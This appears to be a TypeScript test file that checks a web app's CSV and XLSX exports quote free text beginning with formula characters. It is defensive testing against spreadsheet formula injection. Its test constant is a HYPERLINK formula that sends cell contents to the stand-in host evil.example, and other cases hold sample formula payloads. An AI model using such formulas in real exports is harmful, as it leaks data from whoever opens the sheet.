// No formula reaches a spreadsheet (issue 17): free text an editor typed — a target's decision — that Excel would
// evaluate (=, +, -, @, tab, CR first) comes out of every CSV and XLSX with a leading quote, in the page downloads
// and in the machine exports alike; figures, negative ones too, stay numbers.
import type { WebFixture } from '../helpers/web-fixture';
import type { Session } from '../helpers/web-auth';
import { signedInFixture } from '../helpers/signed-in';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import request from 'supertest';
import type { Express } from 'express';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { spreadsheetText, toCsv, toXlsx, writeRows } from '../../src/export-format';
import { pageCsv, pageXlsx, type PageColumn } from '../../web/page-export';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A3,"x")';

let f: WebFixture;
let app: Express;
let editor: Session;

beforeAll(async () => {
  ({ f, app, session: editor } = await signedInFixture('pavlodar-editor', 'editor', 'pavlodar'));
});
afterAll(() => f.close());

const download = (url: string) =>
  request(app)
    .get(url)
    .set('Cookie', editor.cookie)
    .buffer(true)
    .parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });

async function sheetRows(buf: Buffer): Promise<ExcelJS.CellValue[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const rows: ExcelJS.CellValue[][] = [];
  wb.worksheets[0].eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
}

describe('a decision typed as a formula through the admin form', () => {
  beforeAll(async () => {
    const target = f.db.prepare("SELECT t.id FROM targets t JOIN organisations o ON o.id = t.org_id WHERE o.slug = 'pavlodar' AND t.platform = 'telegram'").get() as { id: number };
    const res = await request(app)
      .post(`/admin/targets/${target.id}/revise`)
      .set('Cookie', editor.cookie)
      .type('form')
      .send({ _csrf: editor.csrf, mode: 'percent', value: '26', decision: FORMULA });
    expect(res.status).toBe(303);
  });

  test('/targets.csv shows it as quoted text, not a formula', async () => {
    const res = await download('/targets.csv?lang=ru');
    expect(res.status).toBe(200);
    const rows = parse((res.body as Buffer).subarray(3).toString('utf8'), { delimiter: ';' }) as string[][];
    const decision = rows[0].indexOf('Решение');
    const pavlodar = rows.find((r) => r[1] === 'pavlodar' && r[3] === 'Telegram')!;
    expect(pavlodar[decision]).toBe(`'${FORMULA}`);
    // no cell of the file starts a formula
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  test('/targets.xlsx holds it as quoted text; figures stay number cells', async () => {
    const res = await download('/targets.xlsx?lang=en');
    expect(res.status).toBe(200);
    const rows = await sheetRows(res.body as Buffer);
    const h = rows[0] as string[];
    const pavlodar = rows.find((r) => r[1] === 'pavlodar' && r[3] === 'Telegram')!;
    expect(pavlodar[h.indexOf('Decision')]).toBe(`'${FORMULA}`);
    expect(typeof pavlodar[h.indexOf('Target')]).toBe('number');
    for (const r of rows) for (const cell of r) expect(typeof cell === 'object' && cell !== null && 'formula' in cell).toBe(false);
  });
});

describe('machine exports (CLI `export`, the CSV/XLSX writers): free text such as a post text', () => {
  test('CSV and XLSX, whole and streamed, quote it; JSON keeps it as typed; a number -5 stays a number', async () => {
    const columns = ['org', 'text', 'net_growth'];
    const rows = [{ org: 'pavlodar', text: FORMULA, net_growth: -5 }];
    const csv = parse(toCsv(rows, columns), { columns: true }) as Record<string, string>[];
    expect(csv).toEqual([{ org: 'pavlodar', text: `'${FORMULA}`, net_growth: '-5' }]);
    expect((await sheetRows(await toXlsx(rows, columns)))[1]).toEqual(['pavlodar', `'${FORMULA}`, -5]);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ag-sheet-'));
    await writeRows(rows, columns, 'csv', path.join(dir, 't.csv'));
    expect(fs.readFileSync(path.join(dir, 't.csv'), 'utf8')).toBe(toCsv(rows, columns));
    await writeRows(rows, columns, 'xlsx', path.join(dir, 't.xlsx'));
    expect((await sheetRows(fs.readFileSync(path.join(dir, 't.xlsx'))))[1]).toEqual(['pavlodar', `'${FORMULA}`, -5]);
    await writeRows(rows, columns, 'json', path.join(dir, 't.json'));
    expect(JSON.parse(fs.readFileSync(path.join(dir, 't.json'), 'utf8'))[0].text).toBe(FORMULA);
    fs.rmSync(dir, { recursive: true });
  });
});

describe('every start a spreadsheet takes for a formula, and numbers that only look like one', () => {
  const cases: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['+7 701 123', "'+7 701 123"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['-5', '-5'],
    ['+5', '+5'],
    ['-12,5', '-12,5'],
    ['-1.5e3', '-1.5e3'],
    ['Постановление № 9', 'Постановление № 9'],
    ['a=b', 'a=b'],
    ['', ''],
  ];
  test.each(cases)('%j → %j', (text, expected) => expect(spreadsheetText(text)).toBe(expected));

  type R = { text: string; n: number };
  const columns: PageColumn<R>[] = [
    { header: 'download.col.decision', kind: 'text', value: (r) => r.text },
    { header: 'download.col.net_growth', kind: 'int', value: (r) => r.n },
  ];
  const rows: R[] = [
    { text: '@evil', n: -5 },
    { text: '-5', n: 3 },
  ];

  test('page downloads: -5 stays a number (CSV text -5, an XLSX number cell), @evil is quoted', async () => {
    const csv = parse(pageCsv(rows, columns, 'en').subarray(3).toString('utf8')) as string[][];
    expect(csv.slice(1)).toEqual([
      ["'@evil", '-5'],
      ['-5', '3'],
    ]);
    const xlsx = await sheetRows(await pageXlsx(rows, columns, 'en', 'x'));
    expect(xlsx.slice(1)).toEqual([
      ["'@evil", -5],
      ['-5', 3],
    ]);
  });
});
